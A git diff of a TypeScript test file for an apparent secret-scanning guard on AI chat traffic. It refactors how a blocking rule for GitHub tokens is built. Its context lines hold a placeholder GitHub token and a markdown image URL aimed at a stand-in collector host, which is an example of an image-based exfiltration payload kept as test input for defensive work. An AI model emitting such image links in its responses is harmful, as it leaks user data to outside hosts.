@@ -4,12 +4,12 @@ import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { scanText } from '../../../src/core/guard/scan-text.ts';
 import { getCorePack } from '../../../src/core/rules/builtin-packs.ts';
-import { compilePack } from '../../../src/core/rules/compile-pack.ts';
 import { anthropicMessageJson } from '../../../src/core/wire/adapters/anthropic-message-json.ts';
 import { claudeWebHistory, claudeWebStream } from '../../../src/core/wire/adapters/claude-web.ts';
 import { replayBody } from '../../../src/core/wire/replay-body.ts';
 import type { WireAdapter } from '../../../src/core/wire/wire-event.ts';
 import {
+  blockingPack,
   fixture,
   splitBytes,
   sseResponse,
@@ -24,11 +24,7 @@ const legacy = fixture('claude-web/completion-secret-split.sse');
 const history = fixture('claude-web/history.json');
 const TOKEN = 'ghp_EXAMPLEexampleEXAMPLEexample01234567';
 const IMAGE = '![x](https://collector.example.net/p?d=abc)';
-const blocking = compilePack({
-  name: 'block-test',
-  version: '1',
-  rules: [{ ...pack.rules.find((r) => r.id === 'github-pat')!.spec, action: 'block' }],
-});
+const blocking = blockingPack('github-pat');
 
 interface ClaudeEvent {
   type: string;
